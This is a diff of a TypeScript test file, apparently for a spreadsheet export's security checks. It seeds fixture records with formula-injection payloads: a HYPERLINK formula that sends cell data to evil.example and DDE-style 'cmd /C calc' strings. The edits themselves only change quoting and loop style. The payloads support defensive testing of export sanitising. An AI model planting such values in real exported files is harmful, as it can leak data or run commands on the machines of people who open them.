@@ -12,9 +12,9 @@ import { seed } from './support/seeds.ts';
 
 const NAMES = [
   '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
 ];
 
@@ -22,12 +22,19 @@ let dir: string;
 beforeAll(() => {
   dir = mkdtempSync(join(tmpdir(), 'gongkai-sec-export-'));
   const e = seed('000').expected;
-  NAMES.forEach((agency, i) =>
+  for (const [i, agency] of NAMES.entries())
     writeFileSync(
       join(dir, `r${i}.json`),
-      JSON.stringify({ agency, year: 2023, format: '2021', fields: e.fields, blank: [], uncertain: [], sections: {} }),
-    ),
-  );
+      JSON.stringify({
+        agency,
+        year: 2023,
+        format: '2021',
+        fields: e.fields,
+        blank: [],
+        uncertain: [],
+        sections: {},
+      }),
+    );
 });
 afterAll(() => rmSync(dir, { recursive: true, force: true }));
 
